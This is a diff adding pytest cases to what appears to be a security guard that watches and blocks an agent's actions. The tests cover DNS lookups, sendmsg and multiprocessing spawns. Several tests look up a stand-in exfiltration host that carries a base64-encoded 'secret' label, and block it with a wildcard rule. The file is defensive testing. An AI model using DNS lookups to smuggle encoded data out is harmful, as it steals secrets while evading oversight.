@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import contextvars
+import multiprocessing
 import os
 import shutil
 import socket
@@ -248,6 +249,44 @@ def test_a_blocked_name_is_not_even_looked_up(make: Callable[..., Guard]) -> Non
     assert decisions(guard)[0].resource == "c2VjcmV0.exfil.invalid:443"
 
 
+@pytest.mark.parametrize(
+    ("lookup", "resource"),
+    [
+        (lambda: socket.gethostbyname("c2VjcmV0.exfil.invalid"), "c2VjcmV0.exfil.invalid"),
+        (lambda: socket.gethostbyname_ex("c2VjcmV0.exfil.invalid"), "c2VjcmV0.exfil.invalid"),
+        (lambda: socket.gethostbyaddr("c2VjcmV0.exfil.invalid"), "c2VjcmV0.exfil.invalid"),
+        (lambda: socket.getnameinfo(("127.0.0.1", 53), 0), "127.0.0.1:53"),
+    ],
+    ids=["gethostbyname", "gethostbyname_ex", "gethostbyaddr", "getnameinfo"],
+)
+def test_every_lookup_is_checked_before_it_leaves(
+    make: Callable[..., Guard], lookup: Callable[[], Any], resource: str
+) -> None:
+    # A name looked up carries data out through DNS even when nothing connects to it.
+    guard = make(blocked_resources=["*.exfil.invalid", "127.0.0.1:53"])
+    with guard.watch(), pytest.raises(ActionDenied):
+        lookup()
+    [record] = decisions(guard)
+    assert (record.action_type, record.resource, record.outcome) == ("network_request", resource, "blocked")
+
+
+def test_sendmsg_to_a_blocked_address_never_sends(make: Callable[..., Guard]) -> None:
+    with (
+        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as receiver,
+        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender,
+    ):
+        receiver.bind(("127.0.0.1", 0))
+        receiver.settimeout(1)
+        port = receiver.getsockname()[1]
+        guard = make(blocked_resources=[f"127.0.0.1:{port}"])
+        with guard.watch(), pytest.raises(ActionDenied):
+            sender.sendmsg([b"via sendmsg"], [], 0, ("127.0.0.1", port))
+        sender.sendto(b"unwatched", ("127.0.0.1", port))
+        assert receiver.recv(100) == b"unwatched"  # the first datagram to arrive: the watched one never left
+    [record] = decisions(guard)
+    assert (record.resource, record.outcome) == (f"127.0.0.1:{port}", "blocked")
+
+
 # ---- SQLite ------------------------------------------------------------------------------------------
 
 
@@ -409,3 +448,18 @@ def test_a_forked_child_is_denied_instead_of_sharing_the_guard(make: Callable[..
     os.close(read_end)
     assert (status, verdict) == (0, b"forked_process")
     assert not (work / "child.txt").exists()
+
+
+@pytest.mark.parametrize("method", ["spawn", "forkserver"])
+def test_multiprocessing_starting_a_new_interpreter_is_a_checked_process_spawn(
+    make: Callable[..., Guard], work: Path, method: str
+) -> None:
+    # These start methods run a fresh, unwatched Python without raising an audit event of their own.
+    marker = work / "made-by-child"
+    guard = make(allowed_action_types=FILES)
+    child = multiprocessing.get_context(method).Process(target=os.mkdir, args=(str(marker),))
+    with guard.watch(agent_id="a"), pytest.raises(ActionDenied) as denied:
+        child.start()
+    assert not marker.exists()
+    assert denied.value.decision.action_type is ActionType.PROCESS_SPAWN
+    assert denied.value.decision.resource.startswith(sys.executable)
